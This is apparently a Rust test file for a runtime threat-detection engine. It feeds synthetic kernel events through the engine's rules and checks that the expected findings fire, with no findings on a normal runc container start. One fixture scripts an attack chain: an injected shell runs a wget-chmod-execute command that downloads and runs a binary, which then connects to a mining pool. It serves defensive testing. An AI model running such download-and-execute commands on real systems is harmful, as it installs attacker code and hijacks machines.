//! Every shipped rule's fixtures (`[[test.positive]]`, `[[test.negative]]` in its file), run
//! through the real path: typed events → the schema's Parquet writer → a file → the scan
//! (features and signatures in one pass) → findings.

use std::sync::Arc;

use needle_common::abi::EventKind;
use needle_common::schema::{
    Container, Detail, Dns, Event, ExecState, Fd, FdType, FilePath, Net, PathSource, Process,
    ProcessContext, SCHEMA_VERSION, TraceBatchBuilder, TraceMetadata, WriteOptions,
    writer_properties,
};
use parquet::arrow::ArrowWriter;

use super::*;
use crate::rank::Finding;
use crate::scan::{ScanOptions, scan};

const S: i64 = 1_000_000_000;
const T0: i64 = 1_800_000_000 * S;

fn s(t: &toml::Table, k: &str) -> Option<String> {
    t.get(k).and_then(|v| v.as_str()).map(str::to_string)
}

fn i(t: &toml::Table, k: &str) -> Option<i64> {
    t.get(k).and_then(|v| v.as_integer())
}

fn b(t: &toml::Table, k: &str) -> Option<bool> {
    t.get(k).and_then(|v| v.as_bool())
}

fn list(t: &toml::Table, k: &str) -> Option<Vec<String>> {
    t.get(k).and_then(|v| v.as_array()).map(|a| {
        a.iter()
            .filter_map(|x| x.as_str().map(str::to_string))
            .collect()
    })
}

/// The standard fds and capabilities of a fixture exec: `stdin_type = "tcp"`,
/// `stdin_inode`, `stdin_path`, `stdin_addr`, `stdin_port` (and `stdout_*`, `stderr_*`),
/// `cap_effective`, `cap_permitted`, `cwd`; none of them given: not recorded.
fn exec_state(t: &toml::Table) -> Option<Box<ExecState>> {
    let fd = |names: &needle_common::schema::names::StdioNames| {
        let kind = s(t, names.ty)?;
        Some(Fd {
            kind: FdType::from_name(&kind).unwrap_or_else(|| panic!("fixture fd type `{kind}`")),
            inode: i(t, names.inode).map(|v| v as u64),
            path: s(t, names.path),
            addr: s(t, names.addr),
            port: i(t, names.port).map(|p| p as u16),
        })
    };
    let stdio = needle_common::schema::names::STDIO;
    let state = ExecState {
        stdio: [fd(&stdio[0]), fd(&stdio[1]), fd(&stdio[2])],
        cap_effective: i(t, "cap_effective").map(|v| v as u64),
        cap_permitted: i(t, "cap_permitted").map(|v| v as u64),
        cwd: s(t, "cwd"),
    };
    let any = state.stdio.iter().any(Option::is_some)
        || state.cap_effective.is_some()
        || state.cap_permitted.is_some()
        || state.cwd.is_some();
    any.then(|| Box::new(state))
}

/// One fixture event (see the rule files): `kind` plus the fields it needs; everything else
/// has a plain default (pid 100 under pid 1, /bin/sh ancestry, uid 0).
pub(crate) fn fixture_event(n: usize, t: &toml::Table) -> Event {
    let kind = s(t, "kind").unwrap_or_default();
    let pid = i(t, "pid").unwrap_or(100) as u32;
    let ppid = i(t, "ppid").unwrap_or(1) as u32;
    let exe = s(t, "exe").unwrap_or_else(|| "/app/server".into());
    let comm = s(t, "comm").unwrap_or_else(|| {
        exe.rsplit('/')
            .next()
            .unwrap_or("x")
            .chars()
            .take(15)
            .collect()
    });
    let file = || FilePath {
        path: s(t, "path").unwrap_or_default(),
        source: PathSource::Kernel,
    };
    let ret = i(t, "ret").unwrap_or(0);
    let net = || Net {
        family: s(t, "family").unwrap_or_else(|| "inet".into()).into(),
        protocol: s(t, "protocol").unwrap_or_else(|| "tcp".into()).into(),
        src_addr: None,
        src_port: i(t, "src_port").map(|p| p as u16),
        dst_addr: s(t, "dst_addr"),
        dst_port: i(t, "dst_port").map(|p| p as u16),
        bytes: None,
        ret: Some(ret),
        count: None,
    };
    let dns = || Dns {
        name: s(t, "dns_name").unwrap_or_default(),
        qtype: 1,
        id: 7,
        rcode: i(t, "rcode")
            .map(|r| r as u8)
            .or((kind == "dns_response").then_some(0)),
        answers: list(t, "answers").unwrap_or_default(),
        net: Net {
            family: "inet".into(),
            protocol: "udp".into(),
            dst_addr: Some("10.0.0.2".into()),
            dst_port: Some(53),
            ..Default::default()
        },
    };
    let flags = i(t, "flags").unwrap_or(0) as u64;
    let target_pid = i(t, "target_pid").unwrap_or(999) as u32;
    let detail =
        match EventKind::from_name(&kind).unwrap_or_else(|| panic!("fixture kind `{kind}`")) {
            EventKind::Exec => Detail::Exec {
                argv: list(t, "argv").unwrap_or_else(|| vec![exe.clone()]),
                truncated: false,
                state: exec_state(t),
            },
            EventKind::Fork => Detail::Fork,
            EventKind::Exit => Detail::Exit {
                code: Some(0),
                signal: None,
            },
            EventKind::Open => Detail::Open {
                file: file(),
                flags,
                mode: i(t, "mode").unwrap_or(0o644) as u32,
                ret,
                count: None,
            },
            EventKind::Unlink => Detail::Unlink { file: file(), ret },
            EventKind::Rename => Detail::Rename {
                file: file(),
                new_path: s(t, "path2").unwrap_or_default(),
                ret,
            },
            EventKind::Chmod => Detail::Chmod {
                file: file(),
                mode: i(t, "mode").unwrap_or(0o755) as u32,
                ret,
            },
            EventKind::Chown => Detail::Chown {
                file: file(),
                uid: 0,
                gid: 0,
                ret,
            },
            EventKind::MemfdCreate => Detail::MemfdCreate {
                name: s(t, "path").unwrap_or_default(),
                flags,
                ret,
            },
            EventKind::MmapExec => Detail::MmapExec {
                file: file(),
                prot: 4,
            },
            EventKind::Utimes => Detail::Utimes {
                file: file(),
                atime_ns: i(t, "atime_ns"),
                mtime_ns: i(t, "mtime_ns"),
                flags,
                ret,
            },
            EventKind::Truncate => Detail::Truncate {
                file: file(),
                length: i(t, "length").unwrap_or(0) as u64,
                ret,
            },
            EventKind::Link => Detail::Link {
                file: file(),
                new_path: s(t, "path2").unwrap_or_default(),
                ret,
            },
            EventKind::Symlink => Detail::Symlink {
                file: file(),
                new_path: s(t, "path2").unwrap_or_default(),
                ret,
            },
            EventKind::Mkdir => Detail::Mkdir {
                file: file(),
                mode: i(t, "mode").unwrap_or(0o755) as u32,
                ret,
            },
            EventKind::Socket => Detail::Socket(Box::new(net())),
            EventKind::Dup => Detail::Dup(Box::new(net())),
            EventKind::Connect => Detail::Connect(Box::new(net())),
            EventKind::Accept => Detail::Accept(Box::new(net())),
            EventKind::Bind => Detail::Bind(Box::new(net())),
            EventKind::Listen => Detail::Listen(Box::new(net())),
            EventKind::SendTo => Detail::SendTo(Box::new(net())),
            EventKind::DnsQuery => Detail::DnsQuery(Box::new(dns())),
            EventKind::DnsResponse => Detail::DnsResponse(Box::new(dns())),
            EventKind::Ptrace => Detail::Ptrace {
                request: i(t, "op").unwrap_or(16) as u32,
                target_pid,
                ret,
            },
            EventKind::ProcessVmWritev => Detail::ProcessVmWritev { target_pid, ret },
            EventKind::ProcMemWrite => Detail::ProcMemWrite {
                file: file(),
                target_pid,
                ret,
            },
            EventKind::ModuleLoad => Detail::ModuleLoad {
                file: s(t, "path").map(|_| file()),
                ret,
            },
            EventKind::SetId => Detail::SetId {
                uid: i(t, "target_uid").map(|u| u as u32),
                gid: None,
                nr: 105,
                ret,
            },
            EventKind::Capset => Detail::Capset {
                effective: flags,
                ret,
            },
            EventKind::Userfaultfd => Detail::Userfaultfd { flags, ret },
            EventKind::Mount => Detail::Mount {
                source: s(t, "path").unwrap_or_default(),
                target: s(t, "path2").unwrap_or_default(),
                fstype: s(t, "fstype").unwrap_or_default(),
                flags,
                ret,
            },
            EventKind::Unshare => Detail::Unshare { flags, ret },
            EventKind::Setns => Detail::Setns { flags, ret },
            EventKind::Bpf => Detail::Bpf {
                cmd: i(t, "op").unwrap_or(0) as u32,
                ret,
            },
            EventKind::Keyctl => Detail::Keyctl {
                op: i(t, "op").unwrap_or(0) as u32,
                ret,
            },
            EventKind::SyscallProfile => Detail::SyscallProfile { counts: vec![] },
            EventKind::Syscall => Detail::Syscall { nr: 0, ret: None },
            EventKind::ContainerStart => Detail::ContainerStart,
            EventKind::ContainerStop => Detail::ContainerStop,
            EventKind::Lost => Detail::Lost { count: 1 },
        };
    let secs = i(t, "t").unwrap_or(n as i64);
    Event {
        time_ns: T0 + secs * S,
        ktime_ns: (secs * S) as u64,
        process: Process {
            pid,
            tgid: pid,
            ppid,
            uid: i(t, "uid").unwrap_or(0) as u32,
            gid: 0,
            comm: comm.as_str().into(),
            cgroup_id: 7,
        },
        exe_path: Some(exe.as_str().into()),
        exe_sha256: Some(s(t, "sha256").unwrap_or_else(|| "ab".repeat(32)).into()),
        container: Some(Arc::new(Container {
            id: "c0ffee".into(),
            name: Some("web".into()),
            image: Some("shop/web:1".into()),
            ..Default::default()
        })),
        workload: Some("c0ffee".into()),
        context: Some(Arc::new(ProcessContext {
            key: format!("{pid}@1").into(),
            parent_key: Some(format!("{ppid}@1").into()),
            ancestry: list(t, "ancestry")
                .unwrap_or_else(|| vec!["/bin/sh".into()])
                .into_iter()
                .map(Into::into)
                .collect(),
            user: Some("root".into()),
            exe_new: Some(b(t, "exe_new").unwrap_or(false)),
            exe_writable: Some(b(t, "exe_writable").unwrap_or(false)),
            exe_fileless: Some(b(t, "exe_fileless").unwrap_or(false)),
        })),
        label: None,
        detail,
    }
}

/// Writes `events` as a needle trace and runs the scan with `engine`: the findings.
pub(crate) fn findings_of(engine: &Arc<Engine>, events: &[Event]) -> Vec<Finding> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("t.parquet");
    let mut b = TraceBatchBuilder::new("node-1");
    let mut sorted = events.to_vec();
    sorted.sort_by_key(|e| e.time_ns);
    sorted.iter().for_each(|e| b.push(e));
    let batch = b.finish();
    let meta = TraceMetadata {
        schema_version: SCHEMA_VERSION,
        host: "node-1".into(),
        writer: "test".into(),
        ..Default::default()
    };
    let props = writer_properties(&WriteOptions::default(), meta.to_key_values()).unwrap();
    let mut w = ArrowWriter::try_new(
        std::fs::File::create(&path).unwrap(),
        batch.schema(),
        Some(props),
    )
    .unwrap();
    w.write(&batch).unwrap();
    w.close().unwrap();
    let opts = ScanOptions {
        signatures: Some(engine.clone()),
        ..Default::default()
    };
    let out = scan(&[path], &opts).unwrap();
    engine
        .findings(&crate::scan::split(out.partials).1)
        .into_values()
        .flatten()
        .collect()
}

/// The shipped rules and intel, plus the lab's example names and addresses
/// (`tests/fixtures/intel/`: reserved names the fixtures use, never shipped).
fn shipped() -> Arc<Engine> {
    let examples = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures/intel");
    Arc::new(Engine::load(&[], &[examples]).unwrap())
}

#[test]
fn every_rule_has_a_positive_and_a_near_miss_fixture_and_both_hold() {
    let engine = shipped();
    let mut failures = Vec::new();
    let mut checked = 0;
    for (file, text) in embedded::RULES {
        let r = rule::parse(file, text).unwrap();
        let fx = rule::fixtures(&r);
        let (pos, neg) = (
            fx.get("positive").cloned().unwrap_or_default(),
            fx.get("negative").cloned().unwrap_or_default(),
        );
        if r.context {
            continue;
        }
        if pos.is_empty() || neg.is_empty() {
            failures.push(format!(
                "{file}: needs [[test.positive]] and [[test.negative]]"
            ));
            continue;
        }
        let finding = r.finding.clone().unwrap();
        for (want, cases) in [(true, pos), (false, neg)] {
            for (n, case) in cases.iter().enumerate() {
                let events: Vec<Event> = case
                    .get("events")
                    .and_then(|e| e.as_array())
                    .unwrap()
                    .iter()
                    .enumerate()
                    .map(|(k, e)| fixture_event(k, e.as_table().unwrap()))
                    .collect();
                let found = findings_of(&engine, &events);
                let hit = found
                    .iter()
                    .any(|f| f.kind == finding && f.rules.contains(&r.id));
                checked += 1;
                if hit != want {
                    failures.push(format!(
                        "{file}: {} #{n}: expected {}, found {:?}",
                        if want { "positive" } else { "negative" },
                        if want { "the finding" } else { "none" },
                        found
                            .iter()
                            .map(|f| (&f.kind, &f.rules))
                            .collect::<Vec<_>>()
                    ));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(checked >= 50, "{checked}");
}

#[test]
fn at_least_25_finding_types_including_the_seed_scenario() {
    let engine = shipped();
    let types: std::collections::BTreeSet<&str> = engine
        .rules()
        .iter()
        .filter_map(|r| r.finding.as_deref())
        .collect();
    assert!(types.len() >= 25, "{} types: {types:?}", types.len());
    for t in [
        "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        "CryptoCurrency:Runtime/BitcoinTool.B",
        "Impact:Runtime/CryptoMinerExecuted",
        "Execution:Runtime/NewBinaryExecuted",
        "Backdoor:Runtime/C&CActivity.B!DNS",
        "Backdoor:Runtime/C&CActivity.B",
        "UnauthorizedAccess:Runtime/TorClient",
        "UnauthorizedAccess:Runtime/TorRelay",
        "Execution:Runtime/ReverseShell",
        "Execution:Runtime/SuspiciousShellCreated",
        "DefenseEvasion:Runtime/FilelessExecution",
        "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
        "DefenseEvasion:Runtime/ProcessInjection.Proc",
        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
        "DefenseEvasion:Runtime/KernelModuleLoaded",
        "PrivilegeEscalation:Runtime/DockerSocketAccessed",
        "Discovery:Runtime/SuspiciousCommand",
        "Trojan:Runtime/DGADomainRequest.C!DNS",
    ] {
        assert!(types.contains(t), "no rule names {t}");
    }
}

fn t(src: &str) -> toml::Table {
    toml::from_str(src).unwrap()
}

#[test]
fn the_story_gets_named_findings_with_the_process_and_its_chain() {
    // nginx → sh (injected) → wget → chmod +x → exec of the download → DNS for a pool → connect.
    let events: Vec<Event> = [
        r#"kind = "exec"
           pid = 200
           ppid = 100
           exe = "/bin/sh"
           argv = ["/bin/sh", "-c", "wget http://dl.example/m -O /tmp/.x/m; chmod +x /tmp/.x/m; /tmp/.x/m"]
           ancestry = ["/usr/sbin/nginx", "/bin/sh"]"#,
        r#"kind = "exec"
           pid = 201
           ppid = 200
           exe = "/usr/bin/wget"
           argv = ["wget", "http://dl.example/m", "-O", "/tmp/.x/m"]
           ancestry = ["/bin/sh", "/usr/sbin/nginx"]"#,
        r#"kind = "open"
           pid = 201
           ppid = 200
           exe = "/usr/bin/wget"
           path = "/tmp/.x/m"
           flags = 577
           ret = 3"#,
        r#"kind = "chmod"
           pid = 202
           ppid = 200
           exe = "/bin/chmod"
           path = "/tmp/.x/m"
           mode = 493"#,
        r#"kind = "exec"
           pid = 200
           ppid = 100
           exe = "/tmp/.x/m"
           argv = ["/tmp/.x/m", "-o", "pool.minexmr.com:4444"]
           exe_new = true
           exe_writable = true
           ancestry = ["/usr/sbin/nginx", "/bin/sh"]"#,
        r#"kind = "dns_query"
           pid = 200
           ppid = 100
           exe = "/tmp/.x/m"
           dns_name = "pool.minexmr.com""#,
        r#"kind = "dns_response"
           pid = 200
           ppid = 100
           exe = "/tmp/.x/m"
           dns_name = "pool.minexmr.com"
           answers = ["203.0.113.9"]"#,
        r#"kind = "connect"
           pid = 200
           ppid = 100
           exe = "/tmp/.x/m"
           dst_addr = "203.0.113.9"
           dst_port = 4444"#,
    ]
    .iter()
    .enumerate()
    .map(|(n, e)| fixture_event(n, &t(e)))
    .collect();
    let found = findings_of(&shipped(), &events);
    let kinds: Vec<&str> = found.iter().map(|f| f.kind.as_str()).collect();
    for want in [
        "Execution:Runtime/SuspiciousShellCreated",
        "Execution:Runtime/NewBinaryExecuted",
        "Impact:Runtime/CryptoMinerExecuted",
        "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        "CryptoCurrency:Runtime/BitcoinTool.B",
    ] {
        assert!(kinds.contains(&want), "{want} missing from {kinds:?}");
    }
    let miner = found
        .iter()
        .find(|f| f.kind == "Impact:Runtime/CryptoMinerExecuted")
        .unwrap();
    let p = miner.process.as_ref().unwrap();
    assert_eq!(p.exe.as_deref(), Some("/tmp/.x/m"));
    assert_eq!(p.ancestry, ["/usr/sbin/nginx", "/bin/sh"]);
    assert!(p.argv.as_deref().unwrap().contains("pool.minexmr.com"));
    let chain: Vec<&str> = miner.chain.iter().map(|e| e.kind.as_str()).collect();
    // The whole story, in order: shell, download, write, chmod, exec, DNS, connect.
    for k in ["exec", "open", "chmod", "dns_query", "connect"] {
        assert!(chain.contains(&k), "{k} missing from chain {chain:?}");
    }
    assert!(miner.chain.windows(2).all(|w| w[0].time_ns <= w[1].time_ns));
    assert!(
        miner
            .chain
            .iter()
            .any(|e| e.fields.get("argv").is_some_and(|a| a.contains("wget")))
    );
}

#[test]
fn a_runc_container_start_raises_nothing() {
    // What runc 1.1 does at container start (see KERNEL.md), as the demo capture recorded it.
    let events: Vec<Event> = [
        r#"kind = "exec"
           pid = 50
           ppid = 40
           comm = "runc"
           exe = "/dev/fd/6"
           argv = ["runc", "init"]
           exe_fileless = true
           ancestry = ["/usr/sbin/runc", "/usr/bin/bash"]"#,
        r#"kind = "exec"
           pid = 50
           ppid = 40
           comm = "exe"
           exe = "/proc/self/exe"
           argv = ["runc", "init"]
           ancestry = ["/usr/sbin/runc", "/usr/bin/bash"]"#,
        r#"kind = "memfd_create"
           pid = 50
           ppid = 40
           comm = "runc"
           exe = "/usr/sbin/runc"
           path = "runc_cloned:/proc/self/exe"
           flags = 3
           ancestry = ["/usr/bin/bash"]"#,
        r#"kind = "mount"
           pid = 50
           ppid = 40
           comm = "runc:[2:INIT]"
           exe = "/dev/fd/6"
           path = "/var/lib/app/data"
           path2 = "/run/rootfs/data"
           fstype = "bind"
           ancestry = ["/usr/sbin/runc"]"#,
        r#"kind = "mount"
           pid = 50
           ppid = 40
           comm = "runc:[2:INIT]"
           exe = "/dev/fd/6"
           path = "proc"
           path2 = "/proc"
           fstype = "proc"
           ancestry = ["/usr/sbin/runc"]"#,
        r#"kind = "exec"
           pid = 60
           ppid = 50
           exe = "/bin/sh"
           argv = ["/bin/sh", "-c", "/bin/httpd -f -p 8080"]
           ancestry = ["/dev/fd/6", "/usr/sbin/runc"]"#,
    ]
    .iter()
    .enumerate()
    .map(|(n, e)| fixture_event(n, &t(e)))
    .collect();
    let found = findings_of(&shipped(), &events);
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn user_rules_and_intel_extend_the_shipped_ones() {
    let dir = tempfile::tempdir().unwrap();
    let intel = dir.path().join("intel");
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&intel).unwrap();
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        intel.join("mining_pool_domains.txt"),
        "# kind: domains\n# source: our SOC\nmine.corp.example\n",
    )
    .unwrap();
    std::fs::write(
        rules.join("no-dga.toml"),
        "id = \"dga-dns\"\nenabled = false\nsummary = \"off\"\ndoc = \"turned off\"\n",
    )
    .unwrap();
    let engine = Arc::new(Engine::load(std::slice::from_ref(&rules), &[intel]).unwrap());
    assert!(engine.rules().iter().all(|r| r.id != "dga-dns"));
    let ev = fixture_event(
        0,
        &t("kind = \"dns_query\"\ndns_name = \"a.mine.corp.example\""),
    );
    assert!(
        findings_of(&engine, &[ev])
            .iter()
            .any(|f| f.kind == "CryptoCurrency:Runtime/BitcoinTool.B!DNS")
    );
    std::fs::write(rules.join("bad.toml"), "id = \"x\"\nfinding = \"A\"\nseverity = \"huge\"\nsummary = \"s\"\ndoc = \"d\"\n[[match]]\nkind = \"exec\"\n").unwrap();
    let e = Engine::load(&[rules], &[]).unwrap_err().to_string();
    assert!(e.contains("bad.toml") && e.contains("severity"), "{e}");
}

#[test]
fn every_rule_names_its_mitre_techniques() {
    let re = regex::Regex::new(r"^T[0-9]{4}(\.[0-9]{3})?$").unwrap();
    for r in shipped().rules() {
        if r.finding.is_none() {
            continue;
        }
        assert!(!r.mitre.is_empty(), "{}: no MITRE technique", r.file);
        for m in &r.mitre {
            assert!(re.is_match(m), "{}: `{m}` is not a technique id", r.file);
        }
    }
}

const README: &str = include_str!("../../README.md");

#[test]
fn readme_finding_table_is_rendered_from_the_rules() {
    let engine = shipped();
    let table = docs::finding_table(engine.rules());
    assert!(
        README.contains(&table),
        "analyze/README.md's finding-type table is stale; it should read:\n{table}"
    );
    let types = table.lines().count() - 2;
    assert!(
        README.contains(&format!("### Finding types ({types})")),
        "the heading counts {types} types"
    );
}

#[test]
fn the_falco_parity_table_covers_both_files_and_names_real_rules() {
    let section = README
        .split("### Falco parity")
        .nth(1)
        .and_then(|s| s.split("\n### ").next())
        .expect("a `### Falco parity` section");
    let engine = shipped();
    let ids: std::collections::BTreeSet<&str> =
        engine.rules().iter().map(|r| r.id.as_str()).collect();
    let types: std::collections::BTreeSet<&str> = engine
        .rules()
        .iter()
        .filter_map(|r| r.finding.as_deref())
        .collect();
    let tick = regex::Regex::new(r"`([^`]+)`").unwrap();
    let rule_id = regex::Regex::new(r"^[a-z][a-z0-9-]*$").unwrap();
    let (mut stable, mut incubating) = (0, 0);
    for row in section
        .lines()
        .filter(|l| l.starts_with("| ") && !l.starts_with("| Falco rule"))
    {
        let cells: Vec<&str> = row.split(" | ").collect();
        assert!(cells.len() >= 4, "row `{row}`");
        match cells[1] {
            "stable" => stable += 1,
            "incubating" => incubating += 1,
            other => panic!("row `{row}`: file `{other}`"),
        }
        // The needle column names finding types and rule ids (backticked), or says why not
        // (other backticked text — fields, flags, commands — is not checked).
        for name in tick
            .captures_iter(cells[3])
            .map(|c| c.get(1).unwrap().as_str())
        {
            if name.contains(":Runtime/") {
                assert!(types.contains(name), "row `{row}`: no rule names {name}");
            } else if rule_id.is_match(name) {
                assert!(ids.contains(name), "row `{row}`: no rule `{name}`");
            }
        }
    }
    // falco_rules.yaml (stable) has 25 rules, falco-incubating_rules.yaml 31 (falcosecurity/rules
    // main, 2026): every one has a row.
    assert_eq!((stable, incubating), (25, 31));
}

#[test]
fn readme_lists_every_intel_list_with_its_entry_count() {
    for l in Intel::shipped().unwrap().lists() {
        let kind = format!("{:?}", l.kind).to_lowercase();
        let row = format!("| `{}` | {kind} | {} |", l.name, l.entries.len());
        assert!(
            README.contains(&row),
            "analyze/README.md has no row `{row}`"
        );
    }
}
